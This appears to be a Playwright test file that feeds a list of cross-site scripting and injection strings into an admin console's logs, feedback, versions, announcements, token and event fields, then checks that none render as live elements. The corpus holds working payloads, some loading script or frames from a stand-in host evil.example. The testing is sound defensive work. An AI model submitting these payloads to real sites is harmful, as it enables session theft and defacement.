// What visitors and other people send is text: attack strings go through fields that they fill and are
// looked for as live elements. The policy of the page, other origins and errors are watched by
// the fixture.

import type { Page } from "@playwright/test";
import { expect, open, settled, test } from "./fixtures";

const corpus = [
  "<script>window.attacked=1</script>",
  "<img src=x onerror=window.attacked=1>",
  "<img src=https://evil.example/pixel.png>",
  "![picture](https://evil.example/pixel.png)",
  "[link](javascript:window.attacked=1)",
  "<a href='javascript:window.attacked=1'>click</a>",
  "javascript:window.attacked=1",
  "<svg/onload=window.attacked=1>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
  "<style>*{display:none}</style>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input autofocus onfocus=window.attacked=1>",
  "<math><mtext></mtext><mglyph><style><img src onerror=window.attacked=1>",
  '"><script src=https://evil.example/x.js></script>',
  "'-window.attacked=1-'",
  "{{constructor.constructor('window.attacked=1')()}}",
  "$" + "{window.attacked=1}",
  '=HYPERLINK("https://evil.example")',
  "\u202egnp.exe\u202c <b onmouseover=window.attacked=1>",
  "data:text/html,<script>window.attacked=1</script>",
  'https://evil.example/" onclick="window.attacked=1',
];

/** What must not be anywhere: elements that only the attack strings could have made. */
function liveElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found = [
      ...document.querySelectorAll(
        "main iframe, main object, main embed, main base, main form[action], main img, main math, [role=dialog] iframe, [role=dialog] img, [role=dialog] math, script:not([src^='/console/']):not([type]), a[href^='javascript:' i], a[href^='data:' i]",
      ),
      ...[...document.querySelectorAll("main *, [role=dialog] *")].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith("on")),
      ),
    ].map((element) => element.outerHTML.slice(0, 200));
    return "attacked" in window ? ["attacked", ...found] : found;
  });
}

const sender = (index: number) => ({
  "user-agent": `agent ${corpus[index]!.replace(/[^\x20-\x7e]/g, "")}`,
  "content-type": "application/json",
});

const kinds = {
  logs: (text: string) => ({
    level: 3,
    content: text,
    source: text.slice(0, 128),
    platform: text.slice(0, 32),
    platform_version: text.slice(0, 32),
    device_info: { [text]: text, nested: [text, { [text]: [text] }] },
    custom_data: { [text]: text },
  }),
  feedbacks: (text: string) => ({
    content: text,
    rating: 1,
    user_id: text.slice(0, 64),
    contact: text.slice(0, 128),
    platform: "web",
    platform_version: text.slice(0, 32),
    custom_data: { [text]: text },
  }),
};

for (const [kind, body] of Object.entries(kinds)) {
  test(`attack strings in every field of ${kind} stay text, in table, drawer and form`, async ({ page, server, project }) => {
    for (const [index, text] of corpus.entries()) {
      const response = await fetch(`${server.url}/api/v1/public/${project}/${kind}`, {
        method: "POST",
        headers: sender(index),
        body: JSON.stringify(body(text)),
      });
      expect(response.status, await response.text()).toBe(201);
    }
    await page.addInitScript((kind) => {
      localStorage.setItem(
        `svc.console.${kind}.columns`,
        "level content source rating user_id contact status result codehost_issue_number is_hidden platform created_at ip country region city user_agent device_info custom_data id",
      );
    }, kind);
    await open(page, server, `/admin/${kind}?project=${project}`);
    for (const rows of [10, 10, corpus.length - 20]) {
      await expect(page.locator("tbody tr")).toHaveCount(rows);
      expect(await liveElements(page)).toEqual([]);
      if (rows === 10) {
        await page.getByRole("button", { name: "Next page" }).click();
        await expect(page.locator(".cell-link").first()).not.toContainText("onclick");
      }
    }
    await page.goto(`${server.url}/admin/${kind}?project=${project}`);
    await page.locator(".cell-link").first().click();
    const drawer = page.getByRole("dialog");
    const lead = drawer.locator("dd, div[dir=auto]");
    for (const text of [...corpus].reverse()) {
      await expect(lead.filter({ hasText: text }).first()).toBeVisible();
      expect(await liveElements(page)).toEqual([]);
      await page.keyboard.press("j");
    }
    await page.goto(`${server.url}/admin/${kind}?project=${project}`);
    await page
      .getByRole("button", { name: /More actions/ })
      .first()
      .click();
    await page.getByRole("menuitem", { name: "Copy configuration" }).click();
    await expect(page.getByRole("dialog").getByRole("textbox", { name: "Content" })).toHaveValue(corpus.at(-1)!);
    expect(await liveElements(page)).toEqual([]);
  });
}

test("attack strings of other people stay text in versions, announcements, tokens and names of events, and on the public page", async ({
  page,
  own: server,
}) => {
  test.slow();
  const path = "/admin/projects/app";
  await server.call("POST", "/admin/projects", { project_key: "app", name: corpus[0], author: corpus[1] });
  for (const address of ["javascript:window.attacked=1", "data:text/html,<script>window.attacked=1</script>"]) {
    await expect(server.call("PATCH", path, { website_url: address })).rejects.toThrow("400");
  }
  for (const [index, text] of corpus.entries()) {
    await server.call("POST", `${path}/versions`, {
      version: `1.${index}`,
      comparable_version: `1.${index}`,
      title: text,
      download_links: [{ url: `https://downloads.example/${index}`, name: text }],
      custom_data: { [text]: text },
    });
    await server.call("POST", `${path}/announcements`, { title: text, content: "Text", author: text.slice(0, 64) });
    await server.call("POST", "/auth/api-keys", { name: text.slice(0, 64), scopes: ["logs:read"] });
    await server.call(
      "POST",
      "/public/app/events",
      { distinct_id: text, events: [{ event_id: String(index), name: `e${index}`, properties: { [text.slice(0, 32)]: text } }] },
      "",
    );
  }
  const { data } = await server.call<{ data: { event_definition_id: string }[] }>("GET", `${path}/events/definitions`);
  expect(data.length).toBeGreaterThan(0);
  for (const [index, { event_definition_id: id }] of data.entries()) {
    await server.call("PATCH", `${path}/events/definitions/${id}`, { display_name: corpus[index], description: corpus[index] });
  }
  await open(page, server, "/admin/projects?project=app");
  for (const name of ["versions", "announcements", "tokens", "events/definitions"]) {
    await page.goto(`${server.url}/admin/${name}?project=app`);
    await page.locator(".cell-link").first().click();
    await expect(page.getByRole("dialog")).toBeVisible();
    const seen = new Set<string | null>();
    for (let steps = 0; steps < corpus.length; steps++) {
      await settled(page);
      seen.add(new URL(page.url()).searchParams.get("open"));
      expect(await liveElements(page)).toEqual([]);
      await page.keyboard.press("j");
    }
    expect(seen.size).toBe(corpus.length);
  }
  for (const address of ["/admin", "/admin/projects?open=app", "/admin/events?project=app", "/projects/app"]) {
    await page.goto(server.url + address);
    await settled(page);
    await expect(page.locator("main")).toBeVisible();
    expect(await liveElements(page)).toEqual([]);
  }
});
